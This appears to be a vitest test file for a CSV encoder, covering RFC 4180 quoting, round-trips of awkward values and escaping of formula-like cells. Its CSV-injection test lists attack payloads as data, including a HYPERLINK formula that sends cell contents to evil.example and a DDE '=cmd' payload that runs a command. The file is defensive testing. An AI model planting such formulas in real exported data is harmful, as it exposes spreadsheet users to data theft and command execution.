// The CSV encoder against a strict RFC 4180 reader: every value comes back as written, and no formula gets through.
import { describe, expect, it } from 'vitest'
import { isFormula, parseCsv } from '../../test/support/csv-parse.js'
import { csvChunks, csvField, csvRecord, UTF8_BOM } from './csv-encoder.js'

async function collect(iterable: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const chunk of iterable) text += chunk
  return text
}

async function* batches<T>(...lists: T[][]): AsyncGenerator<T[]> {
  for (const list of lists) yield list
}

/** The cell a reader gets back for a value we wrote. */
const readBack = (value: string) => parseCsv(csvRecord([value]))[0]![0]!
/** What the encoder promises a value reads back as: itself, or `'` and itself when it looks like a formula. */
const expected = (value: string) => (/^(?:[\t\r]|\s*[=+\-@])/.test(value) ? `'${value}` : value)

describe('csv encoder', () => {
  it('leaves plain text bare and ends every record with CRLF', () => {
    expect(csvRecord(['a', 'b c', 'José'])).toBe('a,b c,José\r\n')
    expect(csvRecord([null, undefined, ''])).toBe(',,\r\n')
    expect(csvRecord([12, 0, true])).toBe('12,0,true\r\n')
  })

  it('quotes a field holding a quote, a comma, CR or LF, doubling the quotes (RFC 4180 rules 6 and 7)', () => {
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('Smith, Jo')).toBe('"Smith, Jo"')
    expect(csvField('line\nbreak')).toBe('"line\nbreak"')
    expect(csvField('cr\rhere')).toBe('"cr\rhere"')
    expect(csvField('"')).toBe('""""')
  })

  it('round-trips awkward values through a strict reader', () => {
    const values = [
      '',
      ' ',
      'plain',
      'a,b',
      '"quoted"',
      'x""y',
      'multi\r\nline',
      '\n',
      'trailing,',
      ',leading',
      'ünïcödé 名前 🎓',
      '\u2028separator',
      "O'Brien",
    ]
    const text = csvRecord(values) + csvRecord(values.slice().reverse())
    expect(parseCsv(text)).toEqual([values, values.slice().reverse()])
  })

  it('round-trips seeded random strings over a hostile alphabet', () => {
    // Seeded, so a failure can be replayed: the seed is printed.
    const seed = Number(process.env.CSV_SEED ?? Date.now() % 1_000_000)
    console.log(`csv round-trip seed ${seed} (CSV_SEED=${seed} to replay)`)
    let state = seed
    const next = () => ((state = (state * 1_103_515_245 + 12_345) % 2 ** 31), state / 2 ** 31)
    const alphabet = ['a', 'Z', '1', ',', '"', '\r', '\n', ' ', '\t', 'é', '=', '+', '-', '@', "'", ';']
    const rows = Array.from({ length: 200 }, () =>
      Array.from({ length: 1 + Math.floor(next() * 5) }, () =>
        Array.from({ length: Math.floor(next() * 8) }, () => alphabet[Math.floor(next() * alphabet.length)]).join(''),
      ),
    )
    const parsed = parseCsv(rows.map(csvRecord).join(''))
    expect(parsed).toEqual(rows.map((row) => row.map(expected)))
    for (const row of parsed) for (const cell of row) expect(isFormula(cell), cell).toBe(false)
  })

  it('keeps formula-like text as text (OWASP CSV injection)', () => {
    for (const attack of [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '=1+2',
      '+1+2',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+2',
      '\r=1+2',
      ' =1+2',
      '\n@SUM(A1)',
      "=cmd|' /C calc'!A0",
    ]) {
      const field = csvField(attack)
      expect(field.startsWith(`"'`), attack).toBe(true)
      expect(isFormula(attack), attack).toBe(true)
      expect(readBack(attack), attack).toBe(`'${attack}`)
      expect(isFormula(readBack(attack)), attack).toBe(false)
    }
    // Not at the start: nothing to escape.
    expect(csvField('a=b')).toBe('a=b')
    expect(csvField('jo@example.com')).toBe('jo@example.com')
  })

  it('streams a BOM and header, then one chunk per non-empty batch, picking columns in order', async () => {
    const chunks: string[] = []
    for await (const chunk of csvChunks(
      ['id', 'name'],
      batches([{ id: '1', name: 'A', extra: 'x' }], [], [{ id: '2', name: null }]),
    ))
      chunks.push(chunk)
    expect(chunks).toEqual([`${UTF8_BOM}id,name\r\n`, '1,A\r\n', '2,\r\n'])
    expect(parseCsv(await collect(csvChunks(['id'], batches<Record<string, string>>())))).toEqual([['id']])
  })
})
